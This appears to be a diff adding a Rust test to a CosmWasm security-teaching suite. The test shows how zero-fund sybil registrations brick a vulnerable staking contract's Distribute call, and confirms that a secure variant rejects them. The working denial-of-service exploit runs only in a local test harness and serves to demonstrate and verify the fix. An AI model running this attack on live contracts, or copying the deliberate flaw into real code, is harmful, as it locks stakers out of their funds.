@@ -0,0 +1,73 @@
+//! Bricking Distribute with a zero-stake registration
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coins, Empty};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::unbounded_iteration::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unbounded_iteration",
+    description: "Free registrations make Distribute fail for everyone",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "No funds sent",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+// cw-multi-test does not meter gas, so the block-gas-limit half of this
+// example cannot be reproduced here. The same free Register {} entries
+// also each produce a zero-amount BankMsg::Send, which the bank module
+// rejects - one spam entry is already enough to brick Distribute.
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (owner, victim) = (h.owner.clone(), h.victim.clone());
+
+    let staking = h.deploy(
+        code(),
+        &InstantiateMsg {
+            denom: ATOM.to_string(),
+        },
+        &[],
+        "staking",
+    )?;
+    h.execute(
+        &victim,
+        &staking,
+        &ExecuteMsg::Register {},
+        &coins(1_000_000, ATOM),
+    )?;
+    h.send(&owner, &staking, &coins(500, ATOM))?;
+
+    // Sanity check: distribution works before the spam
+    h.execute(&owner, &staking, &ExecuteMsg::Distribute {}, &[])
+        .map_err(|err| err.context("distribute failed before the attack"))?;
+    h.send(&owner, &staking, &coins(500, ATOM))?;
+
+    // Fresh attacker-controlled addresses, each registering with no funds
+    for i in 0..100 {
+        let sybil = h.account(&format!("attacker{i}"));
+        h.execute(&sybil, &staking, &ExecuteMsg::Register {}, &[])?;
+    }
+
+    ensure!(
+        h.execute(&owner, &staking, &ExecuteMsg::Distribute {}, &[])
+            .is_err(),
+        "distribute still succeeds"
+    );
+    Ok(())
+}